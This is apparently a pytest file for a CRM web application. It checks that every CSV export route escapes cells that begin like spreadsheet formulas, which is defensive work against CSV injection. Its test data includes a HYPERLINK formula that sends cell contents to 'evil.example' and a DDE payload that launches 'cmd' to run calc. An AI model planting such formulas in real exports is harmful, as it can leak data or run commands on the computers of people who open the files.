"""CSV formula injection: no file of the pages holds a cell that a spreadsheet executes.

The files are those of the route table: a new one is asked for without being listed here,
and fails until the world below gives it something to guard.
"""

import csv
import io
from pathlib import Path

import pytest
from flask import Flask
from page_world import PageWorld
from pages import Browser

from crm_core import search
from crm_core.database import transaction
from crm_core.exports import spreadsheets
from crm_core.models import Employee, Findable, Subtag
from crm_web.app import create_app
from crm_web.settings import WebSettings

EXECUTED = tuple("=+-@\t\r\n")
POISON = '=HYPERLINK("https://evil.example?x="&A1;"Offerte")'
HARMFUL = (POISON, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+9)", "\t=1+1", "\r=1+1")


def csv_routes() -> list[str]:
    app = create_app(WebSettings(blobs=Path("blobs")))
    rules = [rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")]
    assert all(not rule.arguments for rule in rules), "give its arguments a value here"
    return sorted(rule.rule for rule in rules)


@pytest.fixture
def poisoned(app: Flask, gl: Browser) -> Browser:
    """A signed-in person, and texts of every kind that begin like a formula."""
    world = PageWorld()
    with transaction():
        Employee.update(name=POISON).execute()
        Subtag.update(name=POISON).execute()
    address = world.address(POISON, "x@y.example")
    entry = world.entry(address, POISON, "offerte")
    world.responsible(entry, "gl")
    world.task(entry, POISON, who="gl")
    with transaction():
        search.refresh(Findable.ENTRY, [entry.id])
    text = f"Name;E-Mail\r\n'{POISON.replace(';', ',')};kein@\r\ngut;gut@y.example\r\n"
    gl.post("/verwaltung/import", file=(io.BytesIO(text.encode()), "x.csv"))
    page = gl.get("/verwaltung/import/vorschau")
    stamp = page.partition('name="stamp" value="')[2].partition('"')[0]
    gl.post("/verwaltung/import/uebernehmen", stamp=stamp)
    return gl


def cells(browser: Browser, path: str) -> list[str]:
    answer = browser.client.get(path, base_url="https://localhost")
    assert (answer.status_code, answer.mimetype) == (200, "text/csv"), path
    text = answer.text.removeprefix("\ufeff")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def executed(found: list[str]) -> list[str]:
    return [cell for cell in found if cell.startswith(EXECUTED)]


@pytest.mark.parametrize("path", csv_routes())
def test_no_cell_of_a_file_is_executed(poisoned: Browser, path: str) -> None:
    found = cells(poisoned, path)
    assert executed(found) == []
    assert any(cell.startswith("'=HYPERLINK") for cell in found), (
        "nothing that looks like a formula came into this file: let the world have some"
    )


@pytest.mark.parametrize("path", csv_routes())
def test_without_the_guard_it_would_be(
    poisoned: Browser, path: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheets, "cell", lambda text: text)
    assert executed(cells(poisoned, path))


@pytest.mark.parametrize("text", HARMFUL)
def test_every_beginning_of_a_formula_is_guarded(text: str) -> None:
    data = spreadsheets.table(["x"], [[text]]).decode("utf-8-sig")
    _, (cell,) = csv.reader(io.StringIO(data, newline=""), delimiter=";")
    assert cell == f"'{text}"
    assert executed([text]) == [text]
